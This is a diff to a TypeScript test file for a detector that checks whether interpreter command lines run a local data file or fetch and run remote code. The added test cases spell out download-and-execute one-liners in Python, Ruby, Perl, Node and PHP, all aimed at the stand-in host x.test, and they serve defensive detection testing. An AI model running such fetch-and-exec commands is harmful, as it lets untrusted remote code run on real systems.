@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import fc from 'fast-check';
-import { runsInline } from './inline-code.ts';
+import { runsFetched, runsInline } from './inline-code.ts';
 
 const FILE = '/home/clerk/data/notes.dat';
 const CLAIMS: readonly (readonly [boolean, ...string[]])[] = [
@@ -14,6 +14,15 @@ const CLAIMS: readonly (readonly [boolean, ...string[]])[] = [
   [true, 'ruby', '-e', "load 'data/notes.dat'"],
   [true, 'node', '-e', 'require("./data/notes.dat")'],
   [true, 'php', '-r', "include '/home/clerk/data/notes.dat';"],
+  [true, 'sh', '-c', '. "$1"', 'x', FILE],
+  [true, 'python3', '-c', 'import sys; exec(open(sys.argv[1]).read())', FILE],
+  [true, 'perl', '-e', 'do $ARGV[0]', FILE],
+  [true, 'node', '-e', 'require(process.argv[1])', FILE],
+  [true, 'lua', '-e', 'dofile(arg[1])', FILE],
+  [false, 'node', '-e', "require('fs').readFileSync(process.argv[1])", FILE],
+  [false, 'python3', '-c', 'import re, sys; re.compile("x").findall(open(sys.argv[1]).read())', FILE],
+  [false, 'perl', '-ne', 'eval { print decode($_) }', FILE],
+  [false, 'sh', '-c', 'for f in "$@"; do wc -l < "$f"; done', 'x', FILE],
   [false, 'bash', '-c', 'grep -c x notes.dat'],
   [false, 'bash', '-c', 'while read a; do echo $a; done < notes.dat'],
   [false, 'python3', '-c', "import json; print(json.load(open('notes.dat')))"],
@@ -33,3 +42,24 @@ test('no words make it throw, and without the name of the file nothing is run', 
     }),
   );
 });
+
+const FETCHES: readonly (readonly [string, ...string[]])[] = [
+  ['http://x.test/s', 'python3', '-c', "import urllib.request as u;exec(u.urlopen('http://x.test/s').read())"],
+  [
+    'https://x.test/s',
+    'python3',
+    '-c',
+    'import requests; eval(compile(requests.get("https://x.test/s").text, "s", "exec"))',
+  ],
+  ['https://x.test/s', 'ruby', '-ropen-uri', '-e', "eval(URI.open('https://x.test/s').read)"],
+  ['http://x.test/s', 'perl', '-e', "use LWP::Simple; eval get('http://x.test/s')"],
+  ['http://x.test:8080/s', 'node', '-e', "fetch('http://x.test:8080/s').then(r => r.text()).then(eval)"],
+  ['http://x.test/s', 'php', '-r', "eval(file_get_contents('http://x.test/s'));"],
+  ['', 'python3', '-c', "import urllib.request as u;print(u.urlopen('http://x.test/s').read())"],
+  ['', 'python3', '-c', "exec('print(1)') # see http://x.test/s"],
+  ['', 'python3', 'http://x.test/s'],
+  ['', 'python3', '-c'],
+];
+for (const [url, ...argv] of FETCHES)
+  test(`${argv.join(' ')}: ${url === '' ? 'runs nothing from outside' : `runs ${url}`}`, () =>
+    assert.equal(runsFetched(argv), url));
